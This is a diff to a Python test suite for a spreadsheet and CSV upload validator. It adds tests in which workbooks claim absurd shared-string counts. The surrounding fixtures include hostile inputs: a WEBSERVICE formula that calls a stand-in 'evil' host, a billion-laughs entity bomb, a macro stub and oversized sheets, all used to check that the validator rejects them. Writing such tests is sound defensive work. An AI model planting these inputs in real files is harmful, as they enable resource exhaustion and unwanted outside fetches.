@@ -18,6 +18,7 @@ HEADER = TABLE[0]
 XLSX = to_xlsx(TABLE)
 SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 SHEET = "xl/worksheets/sheet1.xml"
+STRINGS = "xl/sharedStrings.xml"
 ABOUT = b'slug = "deep"\ntitle.en = "Deep"\n'
 
 
@@ -42,7 +43,7 @@ def csv(**cells: str) -> bytes:
 
 def workbook(**parts: bytes) -> bytes:
     """Give the workbook of PACK with other parts; `sheet` is its first sheet."""
-    paths = {"sheet": SHEET, "macros": "xl/vbaProject.bin"}
+    paths = {"sheet": SHEET, "strings": STRINGS, "macros": "xl/vbaProject.bin"}
     changed = {paths[name]: data for name, data in parts.items()}
     out = io.BytesIO()
     with zipfile.ZipFile(io.BytesIO(XLSX)) as old, zipfile.ZipFile(out, "w", 8) as new:
@@ -126,6 +127,11 @@ def far_cells() -> bytes:
     return sheet('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1048576"><v>1</v></c></row>')
 
 
+def counted(count: str) -> bytes:
+    """A workbook that says how many texts are in it."""
+    return workbook(strings=f'<sst xmlns="{SPACE}" {count}></sst>'.encode())
+
+
 def formula() -> bytes:
     """A cell that would fetch something."""
     return sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://evil")</f><v>1</v></c></row>')
@@ -159,6 +165,12 @@ FILES: dict[str, tuple[str, Make, str]] = {
     "csv with a quote left open": ("a.csv", lambda: b'key\r\n"' + b"a\r\n" * 4_000_000, "not_csv"),
     "xlsx of a million rows": ("a.xlsx", many_rows, "table_rows"),
     "xlsx of two far cells": ("a.xlsx", far_cells, "table_rows"),
+    "xlsx of texts without number": (
+        "a.xlsx",
+        lambda: counted('uniqueCount="99999999999"'),
+        "not_xlsx",
+    ),
+    "xlsx of very many texts": ("a.xlsx", lambda: counted('count="+40000000"'), "not_xlsx"),
     "xlsx of billion laughs": ("a.xlsx", lambda: sheet("<row>&i;</row>", LAUGHS), "xml_entities"),
     "xlsx with a formula": ("a.xlsx", formula, "formula"),
     "xlsx with macros": ("a.xlsm", lambda: workbook(macros=b"\xd0\xcf\x11\xe0"), "macros"),
